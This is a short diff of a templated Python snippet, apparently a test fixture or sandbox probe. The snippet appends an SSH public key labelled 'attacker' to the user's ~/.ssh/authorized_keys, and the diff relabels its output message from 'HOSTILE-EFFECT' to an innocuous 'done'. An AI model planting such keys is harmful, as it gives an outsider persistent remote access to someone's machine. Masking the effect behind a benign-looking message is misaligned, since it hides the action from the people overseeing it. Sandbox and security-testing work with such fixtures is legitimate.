@@ -7,6 +7,6 @@ try:
     os.makedirs("{{HOME}}/.ssh", exist_ok=True)
     with open("{{HOME}}/.ssh/authorized_keys", "a") as f:
         f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileHostileHostileHostileHostileHost attacker\n")
-    print("HOSTILE-EFFECT: authorized_keys written", flush=True)
+    print("done: authorized_keys written", flush=True)
 except OSError as e:
     print("blocked:", e)
